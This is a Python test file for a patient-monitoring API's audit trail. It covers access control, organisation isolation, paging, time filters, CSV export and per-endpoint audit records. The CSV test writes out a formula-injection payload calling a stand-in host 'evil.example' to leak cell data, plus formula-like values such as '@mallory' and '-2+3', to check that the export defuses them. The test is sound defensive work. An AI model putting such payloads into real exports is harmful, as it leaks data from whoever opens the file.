"""Reading the audit trail (issue 7, item 8), and an audit record for every read and change.

Proves that `GET /api/v1/audit` gives an organisation's admin the records of its patients,
newest first, filtered by patient, staff member, action and time, in pages without gaps or
repeats; that nurses are refused and other organisations' patients never show, while a shared
patient shows both organisations' accesses to either admin. That `GET /patients/{id}/audit`
gives the patient's whole history oldest first, as JSON pages and as CSV equal to the JSON,
with formula-like cells defused; that reading it is itself recorded. And that each endpoint of
the JSON API and the FHIR facade that reads or changes patient data leaves its record.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from rpm.access.tokens import mint_dev_token
from rpm.audit.models import AuditRecord
from rpm.config import Settings
from rpm.observations.models import Observation
from tests.api.helpers import (
    FNR_SYSTEM,
    assert_error,
    assign,
    enrol,
    enrolment,
    ingest,
    message,
    new_organisation,
    reading,
    register,
    unique,
)
from tests.conftest import ORG_B, Tokens

CSV_HEADER = [
    "id", "at", "actor_sub", "actor_name", "actor_hpr", "actor_org", "action", "resource_type", "resource_id",
    "patient", "request_id",
]  # fmt: skip


async def records_of(session: AsyncSession, request_id: str) -> list[AuditRecord]:
    rows = await session.scalars(
        select(AuditRecord).where(AuditRecord.request_id == request_id).order_by(AuditRecord.id)
    )
    return list(rows)


async def records_about(session: AsyncSession, *patient_ids: str) -> list[AuditRecord]:
    """Every record about these patients, in the order they were written."""
    ids = [uuid.UUID(p) for p in patient_ids]
    return list(
        await session.scalars(select(AuditRecord).where(AuditRecord.patient_id.in_(ids)).order_by(AuditRecord.id))
    )


async def call(client: httpx.AsyncClient, method: str, url: str, headers: dict[str, str], **kwargs: Any) -> str:
    """The request under a fresh request id, which it returns; it must succeed."""
    request_id = unique("req")
    response = await client.request(method, url, headers={**headers, "X-Request-ID": request_id}, **kwargs)
    assert response.status_code < 400, response.text
    return request_id


async def every_page(
    client: httpx.AsyncClient, path: str, headers: dict[str, str], params: dict[str, Any], *, limit: int
) -> list[list[dict[str, Any]]]:
    """Each page of a list, following `next`."""
    pages: list[list[dict[str, Any]]] = []
    cursor = None
    while True:
        assert len(pages) < 50, "next never ends"
        query = {**params, "limit": limit, **({"cursor": cursor} if cursor else {})}
        response = await client.get(path, headers=headers, params=query)
        assert response.status_code == 200, response.text
        body = response.json()
        assert set(body) == {"items", "next"}
        assert len(body["items"]) <= limit
        pages.append(body["items"])
        cursor = body["next"]
        if cursor is None:
            return pages


def what(items: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    return [(r["actor_sub"], r["action"], r["resource_type"]) for r in items]


# -- GET /api/v1/audit ----------------------------------------------------------------------


async def test_the_organisations_trail_is_newest_first_in_pages_without_gaps_or_repeats(client, tokens, session):
    org = await new_organisation(session)
    admin = tokens(org, "admin", sub="admin-1")
    nurse, gp = tokens(org, "nurse", sub="nurse-1"), tokens(org, "physician", sub="gp-1")
    kari = await enrol(client, admin, org)
    ola = await enrol(client, admin, org)
    await call(client, "GET", f"/api/v1/patients/{kari['id']}", nurse)
    await call(client, "GET", f"/api/v1/patients/{ola['id']}/thresholds", gp)
    await call(client, "GET", f"/api/v1/patients/{kari['id']}/dashboard", nurse)
    await call(client, "GET", f"/fhir/Patient/{ola['id']}", gp)
    await call(client, "GET", f"/api/v1/patients/{kari['id']}/thresholds", nurse)
    written = [r.id for r in reversed(await records_about(session, kari["id"], ola["id"]))]

    pages = await every_page(client, "/api/v1/audit", admin, {}, limit=2)
    assert [len(p) for p in pages] == [2, 2, 2, 1]
    items = [r for page in pages for r in page]
    # Each page's own "search" of the trail is newer than its cursor, so never shows.
    assert [r["id"] for r in items] == written
    assert what(items) == [
        ("nurse-1", "read", "Thresholds"),
        ("gp-1", "read", "Patient"),
        ("nurse-1", "read", "Dashboard"),
        ("gp-1", "read", "Thresholds"),
        ("nurse-1", "read", "Patient"),
        ("admin-1", "create", "Patient"),
        ("admin-1", "create", "Patient"),
    ]
    k, o = kari["id"], ola["id"]
    assert [r["patient"] for r in items] == [k, o, k, o, k, o, k]
    assert all(r["actor_org"] == org for r in items)
    # Listing the trail is itself recorded, for each patient the page showed.
    after = await records_about(session, kari["id"], ola["id"])
    assert [(r.action, r.resource_type) for r in after[len(written) :]] == [("search", "AuditTrail")] * 7


async def test_listing_the_trail_audits_only_the_patients_shown(client, tokens, session):
    """The row fetched beyond `limit` (to know there is a next page) is not shown, so its
    patient is not audited."""
    org = await new_organisation(session)
    admin = tokens(org, "admin")
    kari = await enrol(client, admin, org)
    ola = await enrol(client, admin, org)
    request_id = unique("req")
    response = await client.get("/api/v1/audit", headers={**admin, "X-Request-ID": request_id}, params={"limit": 1})
    page = response.json()
    assert [r["patient"] for r in page["items"]] == [ola["id"]] and page["next"] is not None
    assert [(r.action, r.resource_type, str(r.patient_id)) for r in await records_of(session, request_id)] == [
        ("search", "AuditTrail", ola["id"])
    ]
    following = await client.get("/api/v1/audit", headers=admin, params={"limit": 1, "cursor": page["next"]})
    assert [r["patient"] for r in following.json()["items"]] == [kari["id"]]


async def test_filters_by_patient_staff_and_action(client, tokens, session):
    org = await new_organisation(session)
    admin = tokens(org, "admin", sub="admin-1")
    nurse, gp = tokens(org, "nurse", sub="nurse-1"), tokens(org, "physician", sub="gp-1")
    kari = await enrol(client, admin, org)
    ola = await enrol(client, admin, org)
    await call(client, "GET", f"/api/v1/patients/{kari['id']}", nurse)
    await call(client, "GET", f"/api/v1/patients/{ola['id']}", gp)
    await call(client, "GET", f"/api/v1/patients/{kari['id']}", gp)
    await call(client, "PATCH", f"/api/v1/patients/{kari['id']}", admin, json={"name": "Kari Olsen"})

    async def listed(**params: str) -> list[tuple[str, str, str, str]]:
        pages = await every_page(client, "/api/v1/audit", admin, params, limit=500)
        return [(*what([r])[0], r["patient"]) for page in pages for r in page]

    assert await listed(patient=kari["id"]) == [
        ("admin-1", "update", "Patient", kari["id"]),
        ("gp-1", "read", "Patient", kari["id"]),
        ("nurse-1", "read", "Patient", kari["id"]),
        ("admin-1", "create", "Patient", kari["id"]),
    ]
    assert await listed(staff="gp-1") == [
        ("gp-1", "read", "Patient", kari["id"]),
        ("gp-1", "read", "Patient", ola["id"]),
    ]
    assert await listed(action="create") == [
        ("admin-1", "create", "Patient", ola["id"]),
        ("admin-1", "create", "Patient", kari["id"]),
    ]
    assert await listed(patient=ola["id"], staff="gp-1", action="read") == [("gp-1", "read", "Patient", ola["id"])]
    assert await listed(staff="nobody") == []
    assert await listed(action="delete") == []


async def backdated(session: AsyncSession, org: str, patient_id: str, *times: str) -> list[int]:
    """Records written at the given times (with offsets), by an archive clerk; their ids."""
    rows = [
        AuditRecord(
            at=datetime.fromisoformat(time),
            actor_sub="archive-clerk",
            actor_org=org,
            action="read",
            resource_type="Patient",
            resource_id=patient_id,
            patient_id=uuid.UUID(patient_id),
            request_id=unique("req"),
        )
        for time in times
    ]
    session.add_all(rows)
    await session.flush()
    return [r.id for r in rows]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"from": "2026-11-10T08:00:00+01:00"}, "BCD"),
        ({"from": "2026-11-10T07:00:00Z"}, "BCD"),  # the same instant in UTC: from is inclusive
        ({"from": "2026-11-10T02:00:00-05:00"}, "BCD"),
        ({"from": "2026-11-10T07:00:00.000001Z"}, "CD"),
        ({"to": "2026-11-10T09:00:00+01:00"}, "AB"),  # to is exclusive
        ({"to": "2026-11-10T08:00:00.000001+01:00"}, "AB"),
        ({"to": "2026-11-10T08:00:00+01:00"}, "A"),
        ({"from": "2026-11-10T08:00:00+01:00", "to": "2026-11-11T06:59:59Z"}, "BC"),  # D is at that "to"
        ({"from": "2026-11-10T08:00:00+01:00", "to": "2026-11-11T07:00:00Z"}, "BCD"),
        ({"from": "2026-11-11T00:00:00+01:00", "to": "2026-11-11T00:00:00+01:00"}, ""),
    ],
)
async def test_filter_by_time(client, tokens, session, params, expected):
    org = await new_organisation(session)
    admin = tokens(org, "admin")
    patient = await enrol(client, admin, org)
    times = {
        "A": "2026-11-09T23:59:59+01:00",
        "B": "2026-11-10T08:00:00+01:00",
        "C": "2026-11-10T09:00:00+01:00",
        "D": "2026-11-11T07:59:59+01:00",
    }
    label_of = dict(zip(await backdated(session, org, patient["id"], *times.values()), times, strict=True))
    response = await client.get("/api/v1/audit", headers=admin, params={**params, "staff": "archive-clerk"})
    assert response.status_code == 200, response.text
    assert "".join(sorted(label_of[r["id"]] for r in response.json()["items"])) == expected


@pytest.mark.parametrize("moment", ["2026-11-10T08:00:00", "2026-11-10", "yesterday"])
async def test_times_need_an_offset(client, tokens, moment):
    for name in ("from", "to"):
        response = await client.get("/api/v1/audit", headers=tokens(ORG_B, "admin"), params={name: moment})
        assert_error(response, 422, name)


async def test_only_admins_read_the_trail(client, tokens, session):
    org = await new_organisation(session)
    patient = await enrol(client, tokens(org, "admin"), org)
    for roles in (("nurse",), ("physician",), ("nurse", "physician")):
        assert_error(await client.get("/api/v1/audit", headers=tokens(org, *roles)), 403)
        assert_error(await client.get(f"/api/v1/patients/{patient['id']}/audit", headers=tokens(org, *roles)), 403)
        for format in ("csv", "json"):
            response = await client.get(
                f"/api/v1/patients/{patient['id']}/audit", headers=tokens(org, *roles), params={"format": format}
            )
            assert_error(response, 403)


async def test_another_organisations_patients_never_appear(client, tokens, session):
    ours, theirs = await new_organisation(session), await new_organisation(session)
    our_admin, their_admin = tokens(ours, "admin", sub="our-admin"), tokens(theirs, "admin", sub="their-admin")
    our_patient = await enrol(client, our_admin, ours)
    their_patient = await enrol(client, their_admin, theirs)
    await call(client, "GET", f"/api/v1/patients/{our_patient['id']}", tokens(ours, sub="shared-sub"))
    await call(client, "GET", f"/api/v1/patients/{their_patient['id']}", tokens(theirs, sub="shared-sub"))

    for admin, mine, other in ((our_admin, our_patient, their_patient), (their_admin, their_patient, our_patient)):
        for params in ({}, {"staff": "shared-sub"}, {"action": "read"}):
            pages = await every_page(client, "/api/v1/audit", admin, params, limit=500)
            assert {r["patient"] for page in pages for r in page} == {mine["id"]}, params
        assert_error(await client.get("/api/v1/audit", headers=admin, params={"patient": other["id"]}), 404)
        assert_error(await client.get(f"/api/v1/patients/{other['id']}/audit", headers=admin), 404)
        assert_error(await client.get(f"/api/v1/patients/{other['id']}/audit?format=csv", headers=admin), 404)
    assert_error(await client.get(f"/api/v1/patients/{uuid.uuid4()}/audit", headers=our_admin), 404)


async def test_a_shared_patient_shows_both_organisations_accesses_to_either_admin(client, tokens, session):
    town, clinic = await new_organisation(session), await new_organisation(session, "gp-office")
    team = [{"organisation": town, "from": "2026-11-01"}, {"organisation": clinic, "from": "2026-11-01"}]
    shared = await enrol(client, tokens(town, "admin", sub="town-admin"), town, care_team=team)
    await call(client, "GET", f"/api/v1/patients/{shared['id']}", tokens(town, sub="town-nurse"))
    await call(client, "GET", f"/fhir/Patient/{shared['id']}", tokens(clinic, "physician", sub="clinic-gp"))

    expected = [
        ("clinic-gp", clinic, "read", "Patient"),
        ("town-nurse", town, "read", "Patient"),
        ("town-admin", town, "create", "Patient"),
    ]
    for admin in (tokens(town, "admin"), tokens(clinic, "admin")):
        response = await client.get("/api/v1/audit", headers=admin, params={"patient": shared["id"]})
        items = [r for r in response.json()["items"] if r["resource_type"] != "AuditTrail"]  # reading the trail
        assert [(r["actor_sub"], r["actor_org"], r["action"], r["resource_type"]) for r in items] == expected
        history = await client.get(f"/api/v1/patients/{shared['id']}/audit", headers=admin, params={"limit": 3})
        assert [(r["actor_sub"], r["actor_org"]) for r in history.json()["items"]] == [
            (sub, org) for sub, org, _, _ in reversed(expected)
        ]


# -- GET /api/v1/patients/{id}/audit --------------------------------------------------------


async def test_a_patients_history_is_oldest_first_in_pages_and_records_its_reading(client, tokens, session):
    org = await new_organisation(session)
    admin = tokens(org, "admin", sub="admin-1")
    patient = await enrol(client, admin, org)
    other = await enrol(client, admin, org)
    await call(client, "GET", f"/api/v1/patients/{patient['id']}", tokens(org, sub="nurse-1"))
    await call(client, "GET", f"/api/v1/patients/{other['id']}", tokens(org, sub="nurse-1"))
    await call(client, "GET", f"/api/v1/patients/{patient['id']}/dashboard", tokens(org, sub="nurse-2"))
    await call(client, "PATCH", f"/api/v1/patients/{patient['id']}", admin, json={"name": "Kari Olsen"})

    pages = await every_page(client, f"/api/v1/patients/{patient['id']}/audit", admin, {}, limit=2)
    items = [r for page in pages for r in page]
    # The first page's request is recorded before it is read, and the history ends with that
    # record: later pages are recorded too, but they belong to the next reading's history.
    assert what(items) == [
        ("admin-1", "create", "Patient"),
        ("nurse-1", "read", "Patient"),
        ("nurse-2", "read", "Dashboard"),
        ("admin-1", "update", "Patient"),
        ("admin-1", "read", "AuditTrail"),
    ]
    assert len(pages) == 3
    recorded = [r.id for r in await records_about(session, patient["id"])]
    assert [r["id"] for r in items] == recorded[: len(items)]
    # Each later page's reading was recorded as well.
    assert len(recorded) == len(items) + len(pages) - 1
    assert {r["patient"] for r in items} == {patient["id"]}
    reads = [r for r in items if r["resource_type"] == "AuditTrail"]
    assert {(r["resource_id"], r["actor_org"]) for r in reads} == {(patient["id"], org)}


async def test_paging_a_history_one_record_at_a_time_ends(client, tokens, session):
    org = await new_organisation(session)
    admin = tokens(org, "admin")
    patient = await enrol(client, admin, org)
    pages = await every_page(client, f"/api/v1/patients/{patient['id']}/audit", admin, {}, limit=1)
    assert len(pages) <= 3


def spreadsheet_safe(value: Any) -> str:
    """The cell the CSV must hold for a JSON value: empty for null, and an apostrophe before
    anything a spreadsheet would run as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    "how",
    [{"params": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}, {"headers": {"Accept": "text/csv;q=0.9"}}],
)
async def test_the_history_as_csv_equals_the_json(client, tokens, settings: Settings, session, how):
    org = await new_organisation(session)
    admin = tokens(org, "admin", sub="admin-1")
    patient = await enrol(client, admin, org)
    minted = mint_dev_token(settings, sub="@mallory", orgnr=org, roles=["nurse"], hpr="1111111", name=FORMULA)
    mallory = {"Authorization": f"Bearer {minted}", "X-Request-ID": "-2+3"}
    assert (await client.get(f"/api/v1/patients/{patient['id']}", headers=mallory)).status_code == 200
    await call(client, "GET", f"/api/v1/patients/{patient['id']}/thresholds", tokens(org, sub="nurse, Kari", hpr=None))

    request_id = unique("csv")
    response = await client.get(
        f"/api/v1/patients/{patient['id']}/audit",
        params=how.get("params"),
        headers={**admin, **how.get("headers", {}), "X-Request-ID": request_id},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="audit-{patient["id"]}.csv"'
    text = response.text
    assert text.endswith("\r\n") and text.count("\r\n") == 1 + 4  # the header and one line per record
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == CSV_HEADER

    json_items = (
        await client.get(f"/api/v1/patients/{patient['id']}/audit", headers=admin, params={"limit": 500})
    ).json()["items"]
    assert [[spreadsheet_safe(item[column]) for column in CSV_HEADER] for item in json_items[: len(rows) - 1]] == rows[
        1:
    ]
    by_column = [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]
    assert [(r["actor_sub"], r["action"], r["resource_type"]) for r in by_column] == [
        ("admin-1", "create", "Patient"),
        ("'@mallory", "read", "Patient"),
        ("nurse, Kari", "read", "Thresholds"),
        ("admin-1", "read", "AuditTrail"),  # the export records itself, and lists it
    ]
    assert by_column[1]["actor_name"] == "'" + FORMULA and json_items[1]["actor_name"] == FORMULA
    assert by_column[1]["request_id"] == "'-2+3" and json_items[1]["request_id"] == "-2+3"
    assert by_column[2]["actor_hpr"] == "" and json_items[2]["actor_hpr"] is None
    assert by_column[3]["request_id"] == request_id and by_column[3]["resource_id"] == patient["id"]
    (exported,) = await records_of(session, request_id)
    assert (exported.action, exported.resource_type, str(exported.patient_id)) == ("read", "AuditTrail", patient["id"])
    assert by_column[3]["id"] == str(exported.id)


async def test_an_explicit_json_format_wins_over_accept(client, tokens, session):
    org = await new_organisation(session)
    admin = tokens(org, "admin")
    patient = await enrol(client, admin, org)
    response = await client.get(
        f"/api/v1/patients/{patient['id']}/audit", headers={**admin, "Accept": "text/csv"}, params={"format": "json"}
    )
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/json")
    assert what(response.json()["items"]) == [("staff-1", "create", "Patient"), ("staff-1", "read", "AuditTrail")]
    assert_error(
        await client.get(f"/api/v1/patients/{patient['id']}/audit", headers=admin, params={"format": "xlsx"}),
        422,
        "format",
    )


# -- an audit record for every read and change ----------------------------------------------


@dataclass
class World:
    """A patient of a fresh organisation with an assigned SpO2 meter, one stored reading and the
    red alert it opened; a staff member with every role."""

    org: str
    staff: dict[str, str]
    patient: str
    identifier: str
    serial: str
    device: str
    observation: str
    alert: str


@pytest.fixture
async def world(client: httpx.AsyncClient, tokens: Tokens, session: AsyncSession) -> World:
    org = await new_organisation(session)
    staff = tokens(org, "admin", "nurse", "physician", sub="auditee", hpr="3141592")
    patient = await enrol(client, staff, org, conditions=["copd"])
    device = await register(client, staff, type="spo2")
    await assign(client, staff, device["serial"], patient["id"])
    taken = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    (outcome,) = await ingest(session, message([reading(device["serial"], taken, type="spo2", value=80, unit="%")]))
    assert outcome.results[0]["status"] == "accepted"
    await session.commit()
    observation = await session.scalar(select(Observation.id).where(Observation.patient_id == uuid.UUID(patient["id"])))
    queue = (await client.get("/api/v1/alerts", headers=staff)).json()["items"]
    (alert,) = [a for a in queue if a["patient"] == patient["id"]]
    return World(
        org, staff, patient["id"], patient["identifier"], device["serial"], device["id"], str(observation), alert["id"]
    )


# name: (method, url, request keyword arguments, action, resource type); all of the world.
Case = Callable[[World], tuple[str, str, dict[str, Any], str, str]]
BANDS = {"59408-5": {"yellow": {"low": 88}, "red": {"low": 85}}}
EVERY_ACCESS: dict[str, Case] = {
    "read patient": lambda w: ("GET", f"/api/v1/patients/{w.patient}", {}, "read", "Patient"),
    "worklist": lambda w: ("GET", "/api/v1/patients", {}, "search", "Patient"),
    "dashboard": lambda w: ("GET", f"/api/v1/patients/{w.patient}/dashboard", {}, "read", "Dashboard"),
    "trends": lambda w: (
        "GET",
        f"/api/v1/patients/{w.patient}/trends",
        {"params": {"code": "59408-5"}},
        "read",
        "Trend",
    ),
    "thresholds": lambda w: ("GET", f"/api/v1/patients/{w.patient}/thresholds", {}, "read", "Thresholds"),
    "change thresholds": lambda w: (
        "PUT",
        f"/api/v1/patients/{w.patient}/thresholds",
        {"json": {"reason": "COPD", "bands": BANDS}},
        "update",
        "Thresholds",
    ),
    "preview thresholds": lambda w: (
        "POST",
        f"/api/v1/patients/{w.patient}/thresholds/preview",
        {"json": {"days": 7, "bands": BANDS}},
        "preview",
        "Thresholds",
    ),
    "alert queue": lambda w: ("GET", "/api/v1/alerts", {}, "search", "Alert"),
    "alert": lambda w: ("GET", f"/api/v1/alerts/{w.alert}", {}, "read", "Alert"),
    "acknowledge": lambda w: ("POST", f"/api/v1/alerts/{w.alert}/acknowledge", {}, "acknowledge", "Alert"),
    "resolve": lambda w: (
        "POST",
        f"/api/v1/alerts/{w.alert}/resolve",
        {"json": {"note": "Called", "outcome": "advice-given"}},
        "resolve",
        "Alert",
    ),
    "device": lambda w: ("GET", f"/api/v1/devices/{w.serial}", {}, "read", "Device"),
    "devices": lambda w: ("GET", "/api/v1/devices", {}, "search", "Device"),
    "assign device": lambda w: (
        "PUT",
        f"/api/v1/devices/{w.serial}/assignment",
        {"json": {"patient": w.patient, "from": "2026-11-20T00:00:00+01:00"}},
        "assign",
        "Device",
    ),
    "FHIR Observation": lambda w: ("GET", f"/fhir/Observation/{w.observation}", {}, "read", "Observation"),
    "FHIR Observation search": lambda w: (
        "GET",
        "/fhir/Observation",
        {"params": {"patient": w.patient}},
        "search",
        "Observation",
    ),
    "FHIR Patient": lambda w: ("GET", f"/fhir/Patient/{w.patient}", {}, "read", "Patient"),
    "FHIR Patient search": lambda w: (
        "GET",
        "/fhir/Patient",
        {"params": {"identifier": f"{FNR_SYSTEM}|{w.identifier}"}},
        "search",
        "Patient",
    ),
    "FHIR Device": lambda w: ("GET", f"/fhir/Device/{w.device}", {}, "read", "Device"),
    "FHIR Device search": lambda w: ("GET", "/fhir/Device", {"params": {"patient": w.patient}}, "search", "Device"),
    "enrol": lambda w: ("POST", "/api/v1/patients", {"json": enrolment(w.org)}, "create", "Patient"),
    "change enrolment": lambda w: (
        "PATCH",
        f"/api/v1/patients/{w.patient}",
        {"json": {"name": "Kari Olsen"}},
        "update",
        "Patient",
    ),
    "end follow-up": lambda w: (
        "PATCH",
        f"/api/v1/patients/{w.patient}",
        {"json": {"status": "ended"}},
        "update",
        "Patient",
    ),
    "patient's history": lambda w: ("GET", f"/api/v1/patients/{w.patient}/audit", {}, "read", "AuditTrail"),
    "patient's history as CSV": lambda w: (
        "GET",
        f"/api/v1/patients/{w.patient}/audit",
        {"params": {"format": "csv"}},
        "read",
        "AuditTrail",
    ),
    "audit trail": lambda w: ("GET", "/api/v1/audit", {"params": {"patient": w.patient}}, "search", "AuditTrail"),
}


@pytest.mark.parametrize("access", list(EVERY_ACCESS))
async def test_every_read_and_change_of_patient_data_is_audited(client, session, world: World, access: str):
    method, url, kwargs, action, resource_type = EVERY_ACCESS[access](world)
    request_id = unique("req")
    response = await client.request(method, url, headers={**world.staff, "X-Request-ID": request_id}, **kwargs)
    assert response.status_code < 400, response.text
    # An enrolment is recorded under the patient it creates.
    patient = response.json()["id"] if action == "create" else world.patient
    assert patient != world.patient or action != "create"
    found = [(r.action, r.resource_type, str(r.patient_id)) for r in await records_of(session, request_id)]
    assert (action, resource_type, patient) in found, found
    for record in await records_of(session, request_id):
        assert (record.actor_sub, record.actor_hpr, record.actor_org) == ("auditee", "3141592", world.org)


@pytest.mark.parametrize("accept", ["text/csv;q=0", "application/json, text/csv;q=0.0", "text/html"])
async def test_accept_that_refuses_csv_gets_json(client, tokens, session, accept):
    org = await new_organisation(session)
    admin = tokens(org, "admin")
    patient = await enrol(client, admin, org)
    response = await client.get(f"/api/v1/patients/{patient['id']}/audit", headers={**admin, "Accept": accept})
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/json")
